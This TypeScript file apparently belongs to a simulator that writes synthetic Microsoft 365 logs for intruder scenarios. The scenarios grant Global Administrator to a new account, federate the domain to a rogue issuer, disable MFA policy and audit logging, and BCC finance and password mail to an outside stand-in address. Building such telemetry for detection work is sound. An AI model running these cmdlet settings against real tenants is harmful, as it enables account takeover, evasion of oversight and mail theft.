import { DAY, HOUR, MINUTE } from "../../clock.ts";
import { ROLE, ROLE_NAMES } from "../../state/identifiers.ts";
import { CLIENT, TARGET } from "../apps.ts";
import type { Session } from "../pen.ts";
import { employees } from "../staff.ts";
import { userTarget } from "../wording.ts";
import { aitm, fatigue, replay, stuffing } from "./entries.ts";
import type { Intruder } from "./intruder.ts";
import { entraChange, readMail } from "./steps.ts";

/** An administrator's account: more roles, a second administrator, federation or policy. */
export function adminTakeover(i: Intruder): void {
  const { rng, pen, company } = i;
  const hands = { ...rng.pick([aitm, fatigue, replay])(i), app: CLIENT.portal };
  i.wait(2, 12);
  pen.signIn(i.at, i.victim.user, hands, { app: CLIENT.portal, resource: TARGET.arm, mfa: "claim" });
  i.wait(2, 12);
  const mule = rng.chance(0.6)
    ? newAccount(i, hands)
    : userTarget(rng.pick(employees(company).filter((s) => s !== i.victim)).user);
  i.wait(1, 6);
  const role = rng.pick([
    ROLE.globalAdministrator,
    ROLE.globalAdministrator,
    ROLE.exchangeAdministrator,
    ROLE.privilegedAuthenticationAdministrator,
  ]);
  entraChange(i, hands, "Add member to role.", "RoleManagement", mule, [
    ["Role.ObjectID", "", rng.uuid()],
    ["Role.DisplayName", "", ROLE_NAMES[role] ?? ""],
    ["Role.TemplateId", "", role],
  ]);
  i.wait(3, 20);
  const last = rng.pick(["federation", "policy", "audit", "secret"] as const);
  i.variation.lastStep = last;
  const directory = {
    id: company.tenant.id,
    type: "Application" as const,
    name: company.domain,
    names: company.domain,
  };
  if (last === "federation") {
    entraChange(
      i,
      hands,
      "Add unverified domain.",
      "DirectoryManagement",
      { ...directory, name: `${rng.letters(8)}.example` },
      [["Name", "[]", `["${rng.letters(8)}.example"]`]],
    );
    i.wait(2, 10);
    entraChange(i, hands, "Set domain authentication.", "DirectoryManagement", directory, [
      ["LiveType", '["Managed"]', '["Federated"]'],
    ]);
    i.wait(1, 3);
    entraChange(i, hands, "Set federation settings on domain.", "DirectoryManagement", directory, [
      ["IssuerUri", "[]", `["http://any.sts/${rng.hex(8)}"]`],
    ]);
  } else if (last === "policy") {
    entraChange(
      i,
      hands,
      "Update conditional access policy.",
      "Policy",
      { ...directory, name: "Require MFA for all users" },
      [["ConditionalAccessPolicy", '{"state":"enabled"}', '{"state":"disabled"}']],
    );
  } else if (last === "audit") {
    pen.cmdlet(
      i.at,
      i.victim.user,
      { ...hands, app: CLIENT.exchangePowerShell },
      "Set-AdminAuditLogConfig",
      { UnifiedAuditLogIngestionEnabled: "False" },
      company.tenant.initialDomain,
    );
  } else {
    entraChange(
      i,
      hands,
      "Add service principal credentials.",
      "ApplicationManagement",
      { id: rng.uuid(), type: "ServicePrincipal", name: "Backup Agent", names: rng.uuid() },
      [["KeyDescription", "[]", `["[KeyIdentifier=${rng.uuid()},KeyType=Password,KeyUsage=Verify,DisplayName=]"]`]],
    );
  }
  i.goal(`administrator rights used: ${last}`);
}

function newAccount(i: Intruder, hands: Session): ReturnType<typeof userTarget> {
  const name = i.rng.pick(["svc-sync", "helpdesk2", "admin.backup", "it.support", "exchange.mon"]) + i.rng.int(1, 99);
  const target = {
    id: i.rng.uuid(),
    type: "User" as const,
    name,
    upn: `${name}@${i.company.domain}`,
    puid: `1003200${i.rng.hex(9).toUpperCase()}`,
  };
  entraChange(i, hands, "Add user.", "UserManagement", target, [
    ["AccountEnabled", "[]", "[true]"],
    ["UserPrincipalName", "[]", JSON.stringify([target.upn])],
  ]);
  i.variation.newAccount = true;
  return target;
}

/** A rule or connector for the whole company's mail flow. */
export function mailFlow(i: Intruder): void {
  const { rng, pen } = i;
  const hands = { ...rng.pick([aitm, stuffing, replay])(i), app: CLIENT.exchangePowerShell };
  i.wait(3, 20);
  pen.signIn(i.at, i.victim.user, hands, { app: CLIENT.exchangePowerShell, mfa: i.victim.mfa ? "claim" : "none" });
  i.wait(2, 15);
  const kind = rng.pick([
    "New-TransportRule",
    "New-InboundConnector",
    "New-OutboundConnector",
    "New-RemoteDomain",
  ] as const);
  i.variation.cmdlet = kind;
  const outside = `archive.${rng.letters(5)}@mailfence.example`;
  if (kind === "New-TransportRule") {
    const name = rng.pick([".", "Audit copy", "Journal", "Spam bypass"]);
    pen.cmdlet(
      i.at,
      i.victim.user,
      hands,
      kind,
      {
        Name: name,
        Mode: "Enforce",
        ...(rng.chance(0.7)
          ? { BlindCopyTo: outside, SubjectOrBodyContainsWords: "password;payment;invoice" }
          : { SetSCL: "-1", SenderIpRanges: i.address("hosting").ip }),
        StopRuleProcessing: "False",
      },
      name,
    );
  } else if (kind === "New-InboundConnector") {
    pen.cmdlet(
      i.at,
      i.victim.user,
      hands,
      kind,
      {
        Name: rng.pick(["Relay01", "MX Partner"]),
        ConnectorType: "OnPremises",
        Enabled: "True",
        SenderDomains: "smtp:*;1",
        SenderIPAddresses: i.address("hosting").ip,
        RequireTls: "False",
      },
      "Relay",
    );
  } else if (kind === "New-OutboundConnector") {
    pen.cmdlet(
      i.at,
      i.victim.user,
      hands,
      kind,
      {
        Name: "Outbound archive",
        SmartHosts: i.address("hosting").ip,
        UseMXRecord: "False",
        RecipientDomains: "*",
        RouteAllMessagesViaOnPremises: "False",
      },
      "Outbound archive",
    );
  } else {
    pen.cmdlet(
      i.at,
      i.victim.user,
      hands,
      kind,
      { Name: "partner", DomainName: "mailfence.example", AutoForwardEnabled: "True" },
      "partner",
    );
  }
  i.at += rng.int(2, 30) * HOUR;
  pen.signIn(i.at, i.victim.user, hands, {
    interactive: false,
    app: CLIENT.exchangePowerShell,
    mfa: i.victim.mfa ? "claim" : "none",
  });
  i.goal("mail flow changed and in use");
}

/** Somebody else's mailbox through rights the account gives itself. */
export function delegation(i: Intruder): void {
  const { rng, pen, company } = i;
  const hands = rng.pick([aitm, replay])(i);
  i.wait(3, 20);
  const boss = company.staff.find((s) => s.role === "executive" && s !== i.victim) ?? rng.pick(employees(company));
  const admin = i.victim.user.roles.length > 0;
  const powershell = { ...hands, app: CLIENT.exchangePowerShell };
  const owner = admin ? boss : i.victim;
  const reader = admin ? i.victim.user.upn : `ext.${rng.letters(5)}@${company.domain}`;
  if (admin)
    pen.cmdlet(
      i.at,
      i.victim.user,
      powershell,
      "Add-MailboxPermission",
      {
        Identity: owner.user.id,
        User: reader,
        AccessRights: "FullAccess",
        InheritanceType: "All",
        AutoMapping: "False",
      },
      owner.user.id,
    );
  else
    pen.cmdlet(
      i.at,
      i.victim.user,
      hands,
      rng.pick(["Add-MailboxFolderPermission", "Set-MailboxFolderPermission"]),
      {
        Identity: `${owner.user.id}:\\Inbox`,
        User: rng.pick(["Default", reader]),
        AccessRights: rng.pick(["Owner", "Reviewer", "Editor"]),
      },
      `${owner.user.id}:\\Inbox`,
    );
  i.variation.cmdlet = admin ? "Add-MailboxPermission" : "MailboxFolderPermission";
  i.wait(5, 30);
  for (let n = rng.int(3, 8); n > 0; n--) {
    if (admin)
      pen.readMail(i.at, i.victim.user, hands, rng.int(3, 20), {
        LogonType: 2,
        MailboxOwnerUPN: boss.user.upn,
        MailboxGuid: boss.user.mailbox?.guid ?? "",
        MailboxOwnerSid: boss.user.sid,
      });
    else readMail(i, hands, 1);
    i.at += rng.int(5, 60) * MINUTE;
  }
  if (i.style.pace === "slow") i.at += rng.int(1, 3) * DAY;
  pen.readMail(i.at, i.victim.user, hands, rng.int(3, 20));
  i.goal("mailbox read through granted rights");
}
